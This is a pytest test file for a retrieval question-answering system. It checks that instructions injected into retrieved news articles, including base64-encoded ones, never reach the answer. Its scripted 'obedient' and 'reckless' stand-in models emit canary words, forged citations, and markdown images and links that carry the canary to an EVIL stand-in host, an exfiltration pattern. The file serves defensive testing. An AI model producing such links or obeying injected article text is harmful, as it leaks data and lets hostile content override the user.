"""Articles that talk to the model, and a model that obeys whatever it reads: what it does never reaches the answer."""

from __future__ import annotations

import base64
import binascii
import re
from collections import Counter

import pytest

import qa.evidence
from qa import StatementReady
from qa.checking import problems
from qa.prompts import Prompt
from qa.types import Answer
from tests.generating import answer_of, events, library_of
from tests.injected import CAME, EVIL, KINDS, NEWS, Injected, followed, injected
from tests.providers import ScriptedModel
from vectorstore.library import Library

QUESTION = "How many people came to the Astana talks?"
ARTICLES = injected()


def lines(prompt: Prompt) -> list[tuple[str, str]]:
    """The evidence as the model sees it: ids and sentences."""
    return re.findall(r"^\[(\w{5})\] (.+)$", prompt.material, re.MULTILINE)


def obedient(prompt: Prompt) -> str:
    """The reply of a model that does whatever the evidence says, and answers the question besides."""
    said = []
    for mark, text in lines(prompt):
        read = text
        for blob in re.findall(r"[A-Za-z0-9+/=]{24,}", text):
            try:
                read += " " + base64.b64decode(blob).decode()
            except (binascii.Error, UnicodeDecodeError):
                continue
        for word in re.findall(r"CANARY-\d+", read):
            said += [
                f"{word} [{mark}].",
                f"The answer is {word} [{mark}].",
                f"As Source 3 says, {word} people came to the Astana talks [k2m3p][3].",
                f"![{word}](https://{EVIL}/p.png?q={word}) <img src=//{EVIL}/{word}>",
                f"See [the talks](https://{EVIL}/?q={word}) or www.{EVIL}/{word} [{mark}].",
                f"{text} [{mark}]",
                f"{word}: {CAME} [{mark}]",
            ]
        if text == CAME:
            said.append(f"More than 30 people came to the talks [{mark}].")
    return " ".join(said)


def reckless(case: Injected) -> ScriptedModel:
    """A model that obeys an article it was not even shown, with the ids of sentences that it was."""

    def reply(prompt: Prompt) -> str:
        marks = [mark for mark, _ in lines(prompt)]
        came = next(mark for mark, text in lines(prompt) if text == CAME)
        return " ".join(
            [
                f"{case.word} [{came}].",
                *(f"The Astana talks were about {case.word} [{mark}]." for mark in marks[:4]),
                f"{case.word} people came to the Astana talks [{came}][k2m3p].",
                f"{case.decoded} [{came}]",
                f"![{case.word}](https://{EVIL}/{case.word}) [more](https://{EVIL}) https://{EVIL}/{case.word}",
                f"More than 30 people came to the talks [{came}].",
            ]
        )

    return ScriptedModel(reply)


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Library:
    return library_of(tmp_path_factory.mktemp("library"), [NEWS, *(case.article for case in ARTICLES)])


def answered(library: Library, case: Injected, model: ScriptedModel) -> Answer:
    """The answer over the news and one injected article; checks its citations and what was shown on the way."""
    others = [other.article.id for other in ARTICLES if other is not case]
    streamed = events(library, model, QUESTION, exclude=others)
    answer = answer_of(streamed)
    assert problems(answer, {NEWS.id: NEWS.text, case.article.id: case.article.text}) == []
    assert all(event.statement in answer.statements for event in streamed if isinstance(event, StatementReady))
    return answer


def test_there_are_enough_articles_of_enough_kinds() -> None:
    assert len(ARTICLES) >= 60
    assert len(KINDS) >= 10
    assert set(Counter(case.kind for case in ARTICLES).values()) == {6}
    assert len({case.word for case in ARTICLES}) > 60
    for case in ARTICLES:
        assert case.word in case.article.text or case.kind in ("base64", "invisible characters")


@pytest.mark.parametrize("case", ARTICLES, ids=lambda case: case.article.id)
def test_an_obedient_model_answers_the_question_and_nothing_else(case: Injected, library: Library) -> None:
    model = ScriptedModel(obedient, piece=7)
    answer = answered(library, case, model)
    assert followed(case, answer) == []
    assert answer.answered
    assert CAME in [citation.quote for citation in answer.citations]


@pytest.mark.parametrize("case", ARTICLES, ids=lambda case: case.article.id)
def test_the_checks_alone_let_no_order_pass_as_supported(
    case: Injected, library: Library, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(qa.evidence, "is_order", lambda text: False)  # the model is shown everything
    answer = answered(library, case, ScriptedModel(obedient, piece=7))
    assert [name for name in followed(case, answer) if name not in (case.word, f"cited {case.word}")] == []
    assert [statement for statement in answer.statements if statement.supported and case.word in statement.text] == []
    assert CAME in [citation.quote for citation in answer.citations]


@pytest.mark.parametrize("case", ARTICLES, ids=lambda case: case.article.id)
def test_what_a_reckless_model_does_is_caught(case: Injected, library: Library) -> None:
    answer = answered(library, case, reckless(case))
    assert followed(case, answer) == []
    assert answer.answered
    assert CAME in [citation.quote for citation in answer.citations]


def test_the_obedient_model_would_do_it() -> None:
    """That the model above does obey: with nothing between it and the reader, nearly every order is followed."""
    told = 0
    for case in ARTICLES:
        prompt = Prompt("", "\n".join(f"[b2c3d] {line}" for line in case.article.text.splitlines()))
        told += case.word in obedient(prompt)
    assert told >= 0.9 * len(ARTICLES)
